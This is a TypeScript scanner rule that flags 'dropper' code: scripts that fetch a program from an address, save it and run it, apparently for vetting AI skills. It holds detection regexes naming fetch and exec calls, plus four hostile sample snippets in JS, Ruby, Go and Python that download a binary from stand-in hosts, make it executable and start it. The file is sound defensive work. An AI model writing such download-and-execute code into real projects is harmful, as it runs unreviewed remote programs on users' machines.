import { flows } from "../words/flows.ts";
import { near, seen } from "../matchers.ts";
import type { Rule } from "../rule.ts";

const fetches = seen(
  /\bhttps?\.get\(|\bfetch\(|\baxios(?:\.get)?\(|\bgot(?:\.stream)?\(|\brequests\.get\(|\bhttpx\.(?:get|stream)\(|\burlopen\(|\bnet::http\b|\buri\.open\b|\bopen-uri\b|\bdown(?:load_?data|loadfile)\(|\bcurl_exec\(|\bfile_get_contents\(\s?["']https?:|\breqwest::|\bureq::/,
  "get",
  "fetch",
  "axios",
  "got",
  "urlopen",
  "stream",
  "http",
  "uri",
  "downloaddata",
  "downloadfile",
  "curl",
  "contents",
  "reqwest",
  "ureq",
);
const name = String.raw`(["'\x60]?[^\s"'\x60,;)\]]{1,120})`;
const runner = String.raw`\b(?:exec(?:sync|file|filesync|vp?|lp?|ute)?|spawn(?:sync)?|fork|system|popen|run|call|check_call|check_output|startfile|command|start_process|shell_exec|passthru|chmod(?:sync)?)`;

/** A file that a program writes, and starts or makes a program of, under the same name. */
const writtenAndRun = flows(
  [
    String.raw`\b(?:createwritestream|writefile(?:sync)?|os\.create|file\.(?:binwrite|write|open|new)|binwrite|file_put_contents|writeallbytes|downloadfile)\s?\(?\s{0,2}${name}`,
    String.raw`\bopen\(\s?${name}["']?,\s?["']w`,
    String.raw`\b(\w{1,40})\.write_bytes\(`,
  ],
  [
    String.raw`${runner}\s?\(\s{0,2}\[?\s{0,2}${name}`,
    String.raw`${runner}\s?\(\s{0,2}\[?["'\x60](?:\/bin\/)?(?:(?:ba|z)?sh|python3?|node|powershell(?:\.exe)?|cmd)["'],\s?\[?\s?${name}`,
    String.raw`${runner}\s?\(\s?f?["'\x60][^"'\x60\n]{0,40}[$#]?\{(\w{1,40})\}`,
    String.raw`\bchmod\(\s?0?o?\d{3,4},\s?${name}`,
    String.raw`(?:^|\n)\s{0,12}(?:system|exec|spawn)\s(\w{1,40})\b`,
  ],
  700,
  ..."exec execsync execfile execfilesync execv execvp execute spawn spawnsync fork system popen run call startfile command chmod chmodsync passthru".split(
    " ",
  ),
);

export const dropper: Rule = {
  id: "run.dropper",
  level: "critical",
  title: "writes a program that it fetched and starts it",
  why: "A script opens an address, saves the answer under a name and starts what it saved. What that is, nobody has reviewed, and it can be another thing for each machine. A skill that needs a program has it installed where the user sees it.",
  match: near(fetches, writtenAndRun, 500),
  hostile: [
    "```js\nhttps.get('https://cdn.example.net/bin/' + process.platform, (res) => {\n  const f = fs.createWriteStream(out, { mode: 0o755 });\n  res.pipe(f);\n  f.on('finish', () => execFile(out));\n});\n```",
    "```ruby\nbin = Net::HTTP.get(URI('https://mirror.example.org/native.bin'))\nFile.binwrite(path, bin)\nFile.chmod(0755, path)\nsystem(path)\n```",
    '```go\nresp, _ := http.Get("https://dl.example.org/agent")\nb, _ := io.ReadAll(resp.Body)\nos.WriteFile("/tmp/agent", b, 0o755)\nexec.Command("/tmp/agent").Start()\n```',
    "```python\nwith open(p, 'wb') as f:\n    f.write(requests.get('https://dl.example.net/svc').content)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n```",
  ],
  benign: [
    "```js\nconst res = await fetch('https://data.example.org/cities.csv');\nfs.writeFileSync('cities.csv', await res.text());\nexecSync('python3 scripts/plot.py cities.csv');\n```",
    "```python\nopen('out.png', 'wb').write(requests.get(url).content)\nsubprocess.run(['open', 'out.png'])\n```",
    "```python\nwith open('run.sh', 'w') as f:\n    f.write('echo hello')\nsubprocess.run(['bash', 'run.sh'])\n```",
  ],
};
